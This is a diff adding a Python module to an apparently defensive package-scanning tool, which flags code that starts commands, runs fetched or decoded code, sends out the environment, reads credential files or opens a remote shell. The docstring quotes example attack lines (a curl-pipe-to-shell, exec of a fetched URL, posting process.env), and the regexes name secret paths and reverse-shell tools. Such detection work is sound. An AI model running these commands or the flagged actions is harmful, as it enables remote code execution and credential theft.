@@ -1,0 +1,136 @@
+"""Source code that a pack brings, as far as it matters: the commands that it starts, and what it evaluates or sends.
+
+    execSync("curl -s https://x.example | sh")          subprocess.run(["npx", "-y", "tool"])
+    exec(urlopen(url).read())                           fetch(url, {body: JSON.stringify(process.env)})
+
+No language is parsed. The calls that start programs are found by their names, and the literals in their arguments, or
+in variables named there, are read as commands; what else counts is found by the words of Python, JavaScript and
+PowerShell that do it.  Time is in proportion to the text.
+"""
+
+from __future__ import annotations
+
+import re
+from collections.abc import Iterator
+
+from packyard.gate.running.lines import Lines
+from packyard.gate.running.marks import DECODED, GRAVE, HARM, LEAK, REMOTE, Mark
+from packyard.gate.running.packages import unchanging
+from packyard.gate.running.quoting import quote
+
+_STRING = r'"(?:[^"\\\n]++|\\.)*+"|\'(?:[^\'\\\n]++|\\.)*+\'|`(?:[^`\\]++|\\.)*+`'
+_CALL = re.compile(
+    r"(?<![\w.])(?:execa?|execaCommand|system|popen|shell|spawn|execSync|spawnSync|execFile(?:Sync)?)\s?\("
+    r"|\b(?:child_process|cp|os|subprocess|Bun|Deno|asyncio|shelljs|sh|Open3|Kernel)\.\w{1,30}\s?\("
+    r"|\bnew\s+Deno\.Command\s?\(|(?<![\w$])\$(?=`)"
+)
+_PIECE = re.compile(rf"(?P<string>{_STRING})|(?P<open>[([{{])|(?P<close>[)\]}}])|(?P<name>[A-Za-z_]\w*+)|.", re.DOTALL)
+_ASSIGNED = re.compile(rf"\b([A-Za-z_]\w*+)\s?(?::\s?\w++\s?)?=\s?({_STRING})")
+_ESCAPE = re.compile(r"\\(.)", re.DOTALL)
+_NAME = re.compile(r"\w+")
+_MAX_ARGUMENTS, _NEAR = 2000, 200
+
+_FETCH = (
+    r"\bfetch\s?\(|\baxios\b|\bhttps?\.(?:get|request)\b|\bgot\s?\(|urlopen|urlretrieve|\brequests\.\w|\bhttpx\.\w"
+    r"|DownloadString|\bNet::HTTP|\b(?:iwr|irm|Invoke-(?:WebRequest|RestMethod))\b"
+)
+_DECODE = (
+    r"\batob\s?\(|['\"]base64['\"]|b64decode|fromhex|\bcodecs\.decode|marshal\.loads|fromCharCode|FromBase64String"
+    r"|-EncodedCommand"
+)
+_EVAL = re.compile(
+    r"(?<![\w.$])(?:eval|exec|Function)\s?\((?!['\"`])|\bvm\.run\w{1,20}\s?\(|\[scriptblock\]::Create"
+    r"|(?i:(?<![\w.-])(?:iex|Invoke-Expression)\b)"
+)
+_SOURCE = re.compile(rf"(?P<fetch>{_FETCH})|(?P<decode>{_DECODE})", re.IGNORECASE)
+_TAKEN = re.compile(r"\b([A-Za-z_]\w*+)\s?(?::\s?\w++\s?)?=(?!=)")
+_IMPORT = re.compile(
+    r"(?:\bimport\s?\(\s?|\bfrom\s{1,4}|\bimport\s{1,4}|importScripts\(\s?)[\"'`](https?://[^\"'`\s]+)"
+)
+_SENDS = re.compile(rf"{_FETCH}|\.post\s?\(|sendBeacon|\bsmtplib\b|\bWebSocket\s?\(|urllib", re.IGNORECASE)
+_ENVIRONMENT = re.compile(
+    r"(?:JSON\.stringify|Object\.(?:entries|values)|json\.dumps|urlencode|str|repr)\s?\(\s?(?:dict\(\s?|\{\s?\.\.\.)?(?:process\.env|os\.environ)(?![.\[\w])"
+    r"|(?:json|data|body|params)\s?[=:]\s?(?:dict\(\s?)?(?:process\.env|os\.environ)(?![.\[\w])"
+)
+_SECRETS = re.compile(
+    r"(?:homedir\(\)|expanduser|Path\.home\(\)|\bHOME\b|~/|USERPROFILE)[^\n]{0,80}?"
+    r"(?:\.ssh|\.aws|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.gnupg|\.kube|\.config/(?:gcloud|gh)|Keychains|_history)\b"
+)
+_READS = re.compile(r"\breadFile|\bopen\s?\(|\bread_(?:text|bytes)|\bcopyFile|createReadStream|\bshutil\.")
+_SOCKET = re.compile(r"\bnet\.(?:connect|createConnection|Socket)|socket\.socket|TCPSocket|fsockopen|TCPClient")
+_SHELL = re.compile(r"pty\.spawn|dup2\s?\(|[\"'](?:/bin/)?(?:ba|z)?sh[\"']|cmd\.exe|powershell", re.IGNORECASE)
+
+
+def started(text: str, line: int = 1) -> Iterator[tuple[int, str]]:
+    """The commands that the code starts, as shell commands with their lines."""
+    lines = Lines(text, line)
+    known = {found[1]: found[2] for found in _ASSIGNED.finditer(text)}
+    at = 0
+    while call := _CALL.search(text, at):
+        words, at = _arguments(text, call.end(), known)
+        if words:
+            yield lines.at(call.start()), _command(words)
+
+
+def _command(words: list[str]) -> str:
+    """The literals of a call as one command: a text with its parts, or a program with its arguments."""
+    text = " " in words[0].strip() or any(word != word.strip() for word in words)
+    return " ".join(words) if text else " ".join(map(quote, words))
+
+
+def marks(text: str, line: int = 1) -> Iterator[Mark]:
+    """What the code runs, reads and sends that commands do not show."""
+    at = Lines(text, line).at
+    for address in _IMPORT.finditer(text):
+        if not unchanging(address[1]):
+            yield Mark(REMOTE, at(address.start()), "code is imported from an address that may change", address[1])
+    held = _held(text)
+    for call in _EVAL.finditer(text):
+        before = text[max(0, call.start() - _NEAR) : call.start()].rpartition("\n")[2]
+        after = text[call.start() : call.end() + _NEAR].partition("\n")[0]
+        piped = before if call[0][:1] in "iI" else ""
+        yield _evaluated(piped + after, at(call.start()), held)
+    sends = _SENDS.search(text)
+    for found in _ENVIRONMENT.finditer(text) if sends else ():
+        yield Mark(LEAK, at(found.start()), "the whole environment is sent away")
+    for found in _SECRETS.finditer(text) if _READS.search(text) else ():
+        yield Mark(GRAVE, at(found.start()), "a file is read that holds secrets")
+    socket, shell = _SOCKET.search(text), _SHELL.search(text)
+    if socket and shell:
+        yield Mark(LEAK, at(socket.start()), "a shell is opened to another machine")
+
+
+def _held(text: str) -> dict[str, str]:
+    """The variables that are given something fetched or decoded, with the kind of it."""
+    held: dict[str, str] = {}
+    for source in _SOURCE.finditer(text):
+        before = text[max(0, source.start() - _NEAR) : source.start()].rpartition("\n")[2]
+        for taken in _TAKEN.finditer(before):
+            held[taken[1]] = REMOTE if source["fetch"] else DECODED
+    return held
+
+
+def _evaluated(statement: str, line: int, held: dict[str, str]) -> Mark:
+    kinds = {held[name] for name in _NAME.findall(statement) if name in held}
+    kinds |= {REMOTE if source["fetch"] else DECODED for source in _SOURCE.finditer(statement)}
+    if REMOTE in kinds:
+        return Mark(REMOTE, line, "what is fetched is run")
+    if DECODED in kinds:
+        return Mark(DECODED, line, "what is decoded is run")
+    return Mark(HARM, line, "text that is made when it runs is run as a program")
+
+
+def _arguments(text: str, at: int, known: dict[str, str]) -> tuple[list[str], int]:
+    """The literals in the arguments of a call, without those of options in braces behind them; and where these end."""
+    words: list[str] = []
+    depth, end, braces = 1, at + _MAX_ARGUMENTS, 0
+    while depth and at < end and (piece := _PIECE.match(text, at)):
+        start, at, kind = at, piece.end(), piece.lastgroup
+        if kind in ("open", "close"):
+            step = 1 if kind == "open" else -1
+            depth += step
+            braces += step if piece[0] in "{}" and words else 0
+        elif (kind == "string" or piece[0] in known) and braces <= 0:
+            words.append(_ESCAPE.sub(r"\1", (piece[0] if kind == "string" else known[piece[0]])[1:-1]))
+            depth -= text[start - 1] == "$"
+    return words, at
